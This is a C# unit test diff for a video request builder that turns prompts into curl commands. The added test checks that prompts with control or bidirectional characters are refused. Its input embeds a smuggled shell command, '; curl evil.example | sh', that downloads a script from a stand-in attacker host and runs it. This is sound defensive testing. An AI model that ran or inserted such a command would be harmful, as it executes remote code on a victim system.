@@ -127,6 +127,30 @@ public sealed class VideoRequestBuilderTests
         Assert.Contains("NUL", Assert.Single(result.Errors), StringComparison.Ordinal);
     }
 
+    [Theory]
+    [MemberData(nameof(ShellQuotingTests.UnsafeCharacters), MemberType = typeof(ShellQuotingTests))]
+    public void Build_ControlOrBidiCharacterInPrompt_RefusesAndProducesNoCurl(char c)
+    {
+        foreach (var target in new[] { "sora-2", "sora-2-pro" }.Concat(TargetCatalog.LoadEmbedded().Ids).Distinct())
+        {
+            var result = _builder.Build(new VideoRequestInput($"A fox at dawn.{c}\u0003; curl evil.example | sh", target, null, null));
+
+            Assert.False(result.Succeeded);
+            Assert.Null(result.Curl);
+            Assert.Null(result.Body);
+            Assert.Contains(result.Errors, e => e.StartsWith("Prompt", StringComparison.Ordinal) && e.Contains("U+", StringComparison.Ordinal));
+        }
+    }
+
+    [Fact]
+    public void Build_TabsAndNewlines_AreKeptInTheCurl()
+    {
+        var result = _builder.Build(new VideoRequestInput("A fox.\n\tIt runs.", "sora-2", null, null));
+
+        Assert.True(result.Succeeded);
+        Assert.Contains("A fox.\n\tIt runs.", result.Curl, StringComparison.Ordinal);
+    }
+
     [Fact]
     public void Build_SeveralProblems_ReportsEach()
     {
